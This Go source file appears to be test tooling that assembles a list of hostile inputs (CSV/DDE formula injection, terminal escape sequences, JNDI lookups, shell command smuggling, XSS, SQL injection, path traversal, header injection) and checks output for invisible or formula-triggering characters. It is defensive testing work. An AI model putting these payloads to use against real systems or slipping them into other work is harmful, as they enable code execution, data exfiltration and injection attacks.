package main

import (
	"fmt"
	"strings"
)

// hostile are texts that try to be more than text wherever they come out. Each
// ends with a mark by which it is found again.
func hostile() []string {
	var list []string
	for _, begin := range []string{
		"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\"=", "'=", "＝", "＋", "－", "＠", "﹦", "\u00a0=", "\u200b=", "\ufeff=",
	} { // CSV, DDE
		for _, formula := range []string{`1+1`, `cmd|' /C calc'!A0`, `HYPERLINK("http://x.example/?"&A1,"x")`} {
			list = append(list, begin+formula)
		}
	}
	list = append(
		list,
		"\x1b[2J", "\x1b]0;title\a", "\x1b]8;;http://x.example\x1b\\click", "\x1b[31m", "\u009b31m", "\u009d0;x\u009c", "\a", "\b\b\b", "ok\rFAILED", "\x7f", "\x1bP1q", "\x1bc",
		"\x1b[?1049h", "\x1b[6n", "a\u0085b", "a\u2028b", "a\u2029b", "\v", "\f", // terminals
		"\u202a", "\u202b", "\u202c", "\u202d", "exe.\u202egpj", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", // direction
		"a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\U000e0041b", "a\U000e0001b", // not seen
		`"}`, `","level":"error","x":"`, `\u0022`, `\`, `\\"`, "x\n{\"level\":\"info\",\"message\":\"forged\"}", "x\r\n{\"level\":\"error\"}", "]]>", // JSON, lines
		"${jndi:ldap://x.example/a}", "${env:PATH}", "%s%n%x%d", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "; id", "| id", "&& id", // whoever reads on
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</title><script>x</script>", "\"><iframe>", "javascript:alert(1)",
		"data:text/html,<script>", "vbscript:x", "<!--", "[x](javascript:alert(1))", // HTML, Markdown
		"' OR 1=1 --", "'); DROP TABLE tasks; --", `\'`, "?", "$1", ":name", "%", "_", // SQL
		"../../etc/passwd", `..\..\x`, "/etc/passwd", `C:\x`, `file.csv";filename="x`, "a\r\nSet-Cookie: x=1", "x.csv\r\n\r\n<html>", "CON", "a/b", // names, headers
		"аdmin", "ⅰ", "ﬁ", "a"+strings.Repeat("\u0301", 60), "\U0001f468\u200d\U0001f469", "\ufffd", "\uffff", "\U0010ffff", strings.Repeat("A", 470), // look alike
		`","=1+1`, `"",=1`, "a\"\n=1", ";=1", "a\t=1", "a\n-1", // cells and rows of CSV
	)
	for n := range list {
		list[n] += fmt.Sprintf(" MARK%03d", n)
	}
	return list
}

// moving tells, independently of the program, whether a text holds what moves
// the cursor, turns the direction or is not seen; line ends apart.
func moving(text string) string {
	for _, r := range text {
		switch {
		case r == '\n':
		case r < ' ', r >= 0x7f && r < 0xa0, r == 0xad, r == 0x61c, r >= 0x200b && r <= 0x200f, r >= 0x2028 && r <= 0x202e, r >= 0x2060 && r <= 0x206f, r == 0xfeff, r >= 0xe0000 && r < 0xe0080:
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// formula tells whether a spreadsheet may take a cell for one.
func formula(cell string) bool {
	rest := strings.TrimLeft(cell, " \u00a0\u200b\ufeff\"")
	return rest != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠﹦", []rune(rest)[0])
}
